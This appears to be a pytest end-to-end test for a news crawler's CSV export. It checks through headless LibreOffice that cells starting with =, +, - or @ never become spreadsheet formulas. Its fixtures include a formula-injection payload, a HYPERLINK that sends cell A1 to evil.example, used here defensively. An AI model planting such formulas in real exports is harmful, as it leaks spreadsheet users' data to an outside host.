"""The feeds opened by a real spreadsheet: LibreOffice (headless) imports the CSVs of a real crawl.

The crawled pages start their titles and paragraphs with what a spreadsheet would run (``=HYPERLINK``,
``+7 (8442)``, ``@user``) and with Russian direct speech (``- В эти дни…``), and carry quotes, several
paragraphs (newlines inside a cell) and a long text. LibreOffice converts each feed to xlsx; the sheet
must hold no formula, and the texts must survive. A control CSV with a bare ``=1+1`` proves that the
same import does make formulas. Skipped where ``soffice`` is not installed.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from html import unescape
from pathlib import Path

import pytest

from conftest import next_loopback_address, read_csv, run_cli, write_config
from fault_server import BytesSite

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
pytestmark = [pytest.mark.e2e,
              pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed: "
                                 "apt-get install libreoffice-calc-nogui to run this test")]

LONG = " ".join(["Депутаты обсудили исполнение бюджета по разделам «Образование» и «Здравоохранение»."] * 120)
ARTICLES = {
    "/news/501-hyperlink/": ('=HYPERLINK("http://evil.example/?q="&A1;"Нажмите здесь")',
                             ["- В эти дни в области проходят мероприятия, посвящённые Дню народного единства, "
                              "и Александр Блошкин поздравил жителей.",
                              'Он сказал: "Это «важный» день для всех нас".', LONG]),
    "/news/502-phone/": ("+7 (8442) 30-70-00: новая горячая линия для жителей области",
                         ["=SUM(1;2) — так выглядела строка в старой таблице отчёта, её прислал читатель.",
                          "Горячая линия будет работать ежедневно с 9 до 18 часов, звонок бесплатный. "
                          "Депутаты рассчитывают, что обращения жителей помогут быстрее решать проблемы.",
                          "@user, спрашивавший о графике, получит ответ в личном сообщении."]),
    "/news/503-at-user/": ("@duma_official: итоги недели в областной думе",
                           ["-Депутаты подвели итоги недели и рассказали о планах на следующую.",
                            "На заседаниях комитетов рассмотрено двенадцать законопроектов, из них шесть "
                            "рекомендованы к принятию в первом чтении. Александр Блошкин провёл приём граждан.",
                            "Подробности — на сайте думы и в официальных группах в социальных сетях."]),
}
FORMULA_START = ("=", "+", "-", "@")


def article_page(title: str, paragraphs: list[str]) -> bytes:
    from html import escape

    body = "".join(f"<p>{escape(p)}</p>" for p in paragraphs)
    return (f"<!DOCTYPE html><html lang='ru'><head><meta charset='utf-8'><title>{escape(title)}</title></head>"
            f"<body><nav><a href='/news/'>Новости</a></nav><article><h1>{escape(title)}</h1>"
            f"<div class='date'>02.11.2026</div>{body}</article></body></html>").encode()


@pytest.fixture(scope="module")
def feeds(tmp_path_factory):
    directory = tmp_path_factory.mktemp("libreoffice")
    pages = {path: (article_page(*value), "text/html; charset=utf-8") for path, value in ARTICLES.items()}
    listing = "".join(f"<li><a href='{path}'>{path}</a></li>" for path in ARTICLES)
    pages["/news/"] = (f"<html><body><ul>{listing}</ul></body></html>".encode(), "text/html; charset=utf-8")
    pages["/"] = (b"<html><body><a href='/news/'>News</a></body></html>", "text/html; charset=utf-8")
    site = BytesSite(pages, host=next_loopback_address())
    try:
        entry = {"id": "formulas", "name": "=Дума «Формула»", "region": "+Регион", "url": site.base_url + "/",
                 "timezone": "Europe/Volgograd", "listing": [site.base_url + "/news/"],
                 "article_pattern": r"/news/\d+-[a-z-]+/$"}
        watchlist = {"names": [{"name": "Александр Блошкин"}], "topics": []}
        config = write_config(directory, [entry], watchlist=watchlist, scrapy={"RETRY_TIMES": 0})
        result = run_cli("crawl", "--config", config, timeout=120)
    finally:
        site.stop()
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr[-3000:]
    return directory / "feeds"


def convert(csv_path: Path, out_dir: Path) -> Path:
    """CSV → xlsx with LibreOffice's own CSV import (comma, double quote, UTF-8), formulas evaluated."""
    profile = out_dir / "profile"
    result = subprocess.run(
        [SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--infilter=CSV:44,34,76,1",
         "--convert-to", "xlsx", "--outdir", str(out_dir), str(csv_path)],
        capture_output=True, text=True, timeout=120)
    target = out_dir / (csv_path.stem + ".xlsx")
    assert target.exists(), result.stdout + result.stderr
    return target


def read_xlsx(path: Path) -> tuple[list[list[str]], int]:
    """(rows of cell texts, number of formula cells) of the first sheet."""
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        shared_xml = book.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in \
            book.namelist() else ""
    shared = [unescape("".join(re.findall(r"<t[^>]*>(.*?)</t>", si, re.S)))
              for si in re.findall(r"<si>(.*?)</si>", shared_xml, re.S)]
    formulas = len(re.findall(r"<f[ >]", sheet))
    rows = []
    for row in re.findall(r"<row [^>]*>(.*?)</row>", sheet, re.S):
        cells: dict[int, str] = {}
        for attrs, inner in re.findall(r"<c ([^>]*?)(?:/>|>(.*?)</c>)", row, re.S):
            value = re.search(r"<v>(.*?)</v>", inner or "", re.S)
            text = unescape(value.group(1)) if value else ""
            column = 0
            for letter in re.search(r'r="([A-Z]+)', attrs).group(1):  # empty cells are left out: place by name
                column = column * 26 + ord(letter) - 64
            cells[column - 1] = shared[int(text)] if 't="s"' in attrs and text else text
        rows.append([cells.get(i, "") for i in range(max(cells, default=-1) + 1)])
    return rows, formulas


def test_control_csv_does_make_a_formula(tmp_path):
    raw = tmp_path / "control.csv"
    raw.write_bytes('\ufeffa,b\r\n=1+1,"x\r\ny"\r\n'.encode())
    _, formulas = read_xlsx(convert(raw, tmp_path))
    assert formulas == 1


@pytest.mark.parametrize("name", ["articles.csv", "mentions.csv", "runs.csv"])
def test_no_cell_becomes_a_formula(feeds, tmp_path, name):
    rows, formulas = read_xlsx(convert(feeds / name, tmp_path))
    assert formulas == 0
    assert len(rows) == len(read_csv(feeds / name)) + 1
    for row in rows:
        for cell in row:
            assert not cell.lstrip().startswith(FORMULA_START), cell[:80]


def test_texts_survive_the_spreadsheet(feeds, tmp_path):
    rows, _ = read_xlsx(convert(feeds / "articles.csv", tmp_path))
    header, *data = rows
    records = [dict(zip(header, row, strict=False)) for row in data]
    assert len(records) == 3
    by_title = {r["title"].lstrip("'"): r for r in records}
    assert set(by_title) == {title for title, _ in ARTICLES.values()}
    hyperlink = by_title[ARTICLES["/news/501-hyperlink/"][0]]
    assert hyperlink["text"].startswith("— В эти дни в области проходят мероприятия")  # speech dash, readable
    assert 'Он сказал: "Это «важный» день для всех нас".' in hyperlink["text"]         # quotes intact
    assert hyperlink["text"].count("\n") >= 2                                           # newlines inside a cell
    assert LONG in hyperlink["text"] and len(hyperlink["text"]) > 10_000                # long text whole
    assert hyperlink["source_name"] == "'=Дума «Формула»" and hyperlink["region"] == "'+Регион"
    phone = by_title["+7 (8442) 30-70-00: новая горячая линия для жителей области"]
    assert phone["title"] == "'+7 (8442) 30-70-00: новая горячая линия для жителей области"
    assert phone["text"].startswith("'=SUM(1;2) — так выглядела строка")
    at_user = by_title["@duma_official: итоги недели в областной думе"]
    assert at_user["text"].startswith("— Депутаты подвели итоги недели")
    assert "Александр Блошкин" in at_user["names"]


def test_mentions_readable_in_the_spreadsheet(feeds, tmp_path):
    rows, _ = read_xlsx(convert(feeds / "mentions.csv", tmp_path))
    header, *data = rows
    records = [dict(zip(header, row, strict=False)) for row in data]
    assert {r["watch"] for r in records} == {"Александр Блошкин"}
    assert any("поздравил жителей" in r["snippet"] for r in records)
